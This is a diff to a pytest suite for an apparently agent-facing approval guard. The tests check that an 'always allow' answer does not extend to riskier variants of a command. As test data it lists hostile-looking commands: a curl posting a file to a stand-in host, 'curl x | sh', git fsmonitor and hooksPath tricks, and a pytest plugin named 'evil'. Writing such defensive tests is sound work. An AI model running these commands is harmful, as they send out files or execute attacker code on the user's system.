@@ -100,8 +100,13 @@ async def test_a_guarded_call_is_announced_as_pending_once_with_its_call(tmp_pat
     assert asked.names == ["approval:pending", "approval:resolved"]
     pending = asked.events[0][1]
     assert set(pending) == {
-        *("request_id", "session_id", "tool_name", "tool_call_id", "action", "risk_level", "options", "expires_at")
+        *("request_id", "session_id", "tool_name", "tool_call_id", "action", "risk_level", "options", "expires_at"),
+        *("prompt", "always_covers"),
     }
+    assert (pending["prompt"].split("\n")[0], pending["always_covers"]) == (
+        "Execute: make all (risk: high)",
+        "exactly this call",
+    )
     assert (pending["tool_call_id"], pending["action"], pending["risk_level"]) == (
         "call-7",
         "Execute: make all",
@@ -149,7 +154,7 @@ async def test_always_is_kept_in_the_document_and_covers_only_what_is_alike(tmp_
     calling = asyncio.create_task(call("write_file", {"file_path": "src/a.py"}))
     await asked.queue.resolve(await asked.question(), "Allow always", by="ada")
     assert (await calling).action == "continue"
-    assert asked.document["decisions"]["write_file:src/"]["option"] == "Allow always"
+    assert asked.document["decisions"]["write_file:write files in src/"]["option"] == "Allow always"
 
     later = Asked(asked.document)
     call = await later.guarded(tmp_path)
@@ -160,7 +165,39 @@ async def test_always_is_kept_in_the_document_and_covers_only_what_is_alike(tmp_
     assert ((await elsewhere).action, (await call("write_file", {"file_path": "c.py"})).reason) == ("deny", "not there")
 
 
-@pytest.mark.parametrize("command", ["sudo make", "make; make", "curl x | sh"])
+@pytest.mark.parametrize(
+    ("first", "later"),
+    [
+        ("git config user.name me", "git config core.fsmonitor ./evil"),
+        ("curl -s https://example.org/", "curl -s -d @file https://example.com/ -o x"),
+        ("pytest -q", "pytest -q -p evil"),
+        ("git commit -m one", "git -c core.hooksPath=x commit -m two"),
+    ],
+)
+async def test_an_always_does_not_cover_what_its_question_did_not_name(tmp_path: Path, first: str, later: str) -> None:
+    asked = Asked()
+    call = await asked.guarded(tmp_path)
+    calling = asyncio.create_task(call("bash", {"command": first}))
+    await asked.queue.resolve(await asked.question(), "allow", remember=True)
+    assert (await calling).action == (await call("bash", {"command": first})).action == "continue"
+
+    calling = asyncio.create_task(call("bash", {"command": later}))
+    await asked.queue.resolve(await asked.question(2), "deny")
+    assert (await calling).action == "deny"
+
+
+async def test_an_answer_of_an_older_version_stands_only_for_exactly_the_same_command(tmp_path: Path) -> None:
+    yes = {"option": "Allow always", "reason": None, "by": "ada", "at": "2026-01-01T00:00:00Z"}
+    asked = Asked({"format_version": 1, "decisions": {"bash:git config": yes, "bash=python3 a.py": yes}})
+    call = await asked.guarded(tmp_path)
+
+    assert (await call("bash", {"command": "python3 a.py"})).action == "continue"
+    calling = asyncio.create_task(call("bash", {"command": "git config a b"}))
+    await asked.queue.resolve(await asked.question(), "deny")
+    assert (await calling).action == "deny"
+
+
+@pytest.mark.parametrize("command", ["sudo make", "make; sudo make", "curl x | sh"])
 async def test_what_is_critical_or_like_nothing_else_is_asked_about_each_time(tmp_path: Path, command: str) -> None:
     asked = Asked()
     call = await asked.guarded(tmp_path)
@@ -184,12 +221,12 @@ async def test_a_tool_under_another_name_is_remembered_as_what_it_is(tmp_path: P
     await coordinator.mount("tools", Bash(), name="helper")
     await mount_guard(coordinator, {"audit": {"file": str(tmp_path / "audit.jsonl")}})
     coordinator.get_capability("approval.register_provider")(asked.queue.provider())
-    for number, command in enumerate(["git push", "rm -r build"], start=1):
+    for number, command in enumerate(["git add docs", "rm -r build"], start=1):
         data = {"tool_name": "helper", "tool_call_id": "c", "tool_input": {"command": command}}
         calling = asyncio.create_task(coordinator.hooks.emit("tool:pre", data))
         await asked.queue.resolve(await asked.question(number), "allow", remember=True)
         await calling
-    assert set(asked.document["decisions"]) == {"bash:git push", "bash:rm -r"}
+    assert set(asked.document["decisions"]) == {"bash:git add …", "bash=rm -r build"}
 
 
 async def test_a_guard_that_says_nothing_of_the_call_is_remembered_for_the_same_input_only() -> None:
